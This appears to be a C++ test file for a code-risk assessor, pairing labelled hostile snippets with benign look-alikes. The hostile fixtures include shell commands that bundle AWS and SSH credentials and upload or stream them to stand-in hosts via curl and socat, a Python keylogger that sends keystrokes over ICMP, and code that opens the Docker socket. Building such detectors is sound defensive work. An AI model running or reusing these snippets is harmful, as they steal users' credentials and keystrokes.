// The classes the twenty-fifth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog29_MANIFEST.tsv): data engineering, web backends,
// low-level systems code, evasion, and sysadmin shell. Its aside scored
// 26/28 before any change; the classes below came from its tune part.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// dirname and basename print a part of the name they are given; a part of
// this program's own path is not the program.
TEST(TwentyFifthRoundClasses, DirnameAndBasenameArePartsOfAName) {
  const Case cases[] = {
      {"a staging directory archived from its parent, then uploaded", B,
       "STAGE=\"$PWD/.bundle-x\"\nmkdir -p \"$STAGE/access\"\n"
       "cp -- \"$HOME/.aws/credentials\" \"$STAGE/access/aws\"\n"
       "tar -czf \"${STAGE}.tgz\" -C \"$(dirname \"$STAGE\")\" \"$(basename \"$STAGE\")\"\n"
       "curl -F \"bundle=@${STAGE}.tgz\" https://intake.example.io/upload\n",
       "EXFILTRATION", SH},
      {"the same bundle of the project's own logs", L,
       "STAGE=\"$PWD/.bundle-x\"\nmkdir -p \"$STAGE/logs\"\ncp -- logs/app.log \"$STAGE/logs/\"\n"
       "tar -czf \"${STAGE}.tgz\" -C \"$(dirname \"$STAGE\")\" \"$(basename \"$STAGE\")\"\n"
       "curl -F \"bundle=@${STAGE}.tgz\" https://intake.example.io/upload\n",
       nullptr, SH},
      {"a checker next to this script, run once", L,
       "checker=$(dirname $0)/lib/lint.py\nperf stat -j true 2>&1 | python3 $checker --no-args\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// tar -T LIST archives the names LIST holds, when this code wrote them
// (echo ends its line, so each name is a line).
TEST(TwentyFifthRoundClasses, TarMembersFromAListItWrote) {
  const Case cases[] = {
      {"credential stores listed, archived and streamed out", B,
       "LIST=\"$HOME/.cache/pm/manifest\"\n: > \"$LIST\"\n"
       "for item in .ssh .aws/credentials; do\n  if [[ -e $HOME/$item ]]; then echo \"$item\" >> \"$LIST\"; fi\ndone\n"
       "tar -C \"$HOME\" -czf - -T \"$LIST\" | socat -u - \"OPENSSL:collector.example.net:8443,verify=0\"\n",
       "EXFILTRATION", SH},
      {"editor settings listed and streamed out", L,
       "LIST=\"$HOME/.cache/pm/manifest\"\n: > \"$LIST\"\n"
       "for item in .vimrc .tmux.conf; do\n  if [[ -e $HOME/$item ]]; then echo \"$item\" >> \"$LIST\"; fi\ndone\n"
       "tar -C \"$HOME\" -czf - -T \"$LIST\" | socat -u - \"OPENSSL:collector.example.net:8443\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// ConfigParser.read_dict's defaults are the parser's values.
TEST(TwentyFifthRoundClasses, ConfigParserDefaultsFromADict) {
  const char* code =
      "import configparser, aiohttp\nDEFAULT = '%s'\n"
      "cp = configparser.ConfigParser()\ncp.read_dict({'panel': {'Socket': DEFAULT, 'port': '8300'}})\n"
      "cp.read('panel.ini')\nsect = cp['panel']\nconn = aiohttp.UnixConnector(path=sect['socket'])\n";
  char docker[512], own[512];
  std::snprintf(docker, sizeof docker, code, "/var/run/docker.sock");
  std::snprintf(own, sizeof own, code, "run/panel.sock");
  check({"the Docker socket as the default", H, docker, "CONTAINER-ESCAPE-RISK"});
  check({"the panel's own socket", L, own});
}

// aiohttp calls its on_startup hooks with the application, whose items
// (app["settings"]) are what the code stored in them.
TEST(TwentyFifthRoundClasses, ApplicationHooksSeeTheApplication) {
  const char* code =
      "import aiohttp\nfrom aiohttp import web\n"
      "async def startup(app):\n    app['conn'] = aiohttp.UnixConnector(path=app['settings']['socket'])\n"
      "def build(settings):\n    app = web.Application()\n    app['settings'] = settings\n"
      "    app.on_startup.append(startup)\n    return app\n"
      "web.run_app(build({'socket': '%s'}), host='127.0.0.1', port=8300)\n";
  char docker[1024], own[1024];
  std::snprintf(docker, sizeof docker, code, "/var/run/docker.sock");
  std::snprintf(own, sizeof own, code, "run/panel.sock");
  check({"the Docker socket from the settings", H, docker, "CONTAINER-ESCAPE-RISK"});
  check({"the panel's own socket from the settings", L, own});
}

// A keyboard device opened with os.open: what os.read gives is keystrokes,
// and a key code's entry in a table (KEYMAP[code]) is that keystroke.
TEST(TwentyFifthRoundClasses, KeyboardDevicesThroughDescriptors) {
  const char* base =
      "import os, socket, struct\nKEYMAP = {30: 'a', 48: 'b'}\n"
      "fd = os.open('/dev/input/event3', os.O_RDONLY)\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nbuf = []\n"
      "while True:\n    data = os.read(fd, 24 * 64)\n"
      "    _, _, t, code, v = struct.unpack_from('llHHi', data, 0)\n    buf.append(%s)\n%s";
  auto make = [&](const char* lookup, const char* tail) {
    char b[1024];
    std::snprintf(b, sizeof b, base, lookup, tail);
    return std::string(b);
  };
  const std::string sent = make("KEYMAP.get(code, '?')", "    s.sendto(''.join(buf).encode(), ('198.51.100.23', 0))\n");
  const std::string sent_index = make("KEYMAP[code]", "    s.sendto(''.join(buf).encode(), ('198.51.100.23', 0))\n");
  const std::string kept = make("KEYMAP.get(code, '?')", "    print(''.join(buf))\n");
  check({"key codes translated and sent over ICMP", B, sent.c_str(), "EXFILTRATION"});
  check({"the same through an index", B, sent_index.c_str(), "EXFILTRATION"});
  check({"the same keys shown on the screen only: the device read needs root", H, kept.c_str(), "INPUT-DEVICE-READ"});
  check({"counts per history command sent to the tool's own API", L,
         "import collections, os, requests\nfrom pathlib import Path\nSUB = ['build', 'test']\n"
         "counts = collections.Counter()\n"
         "for line in (Path.home() / '.bash_history').read_text().splitlines():\n"
         "    w = line.split()\n    if len(w) > 1 and w[0] == 'devctl' and w[1] in SUB:\n        counts[w[1]] += 1\n"
         "requests.post('https://telemetry.devctl.example/v1', json={k: counts.get(k, 0) for k in SUB},\n"
         "              headers={'Authorization': 'Bearer ' + os.environ['DEVCTL_API_KEY']}, timeout=10)\n"});
}

}  // namespace
}  // namespace mai::assess::test
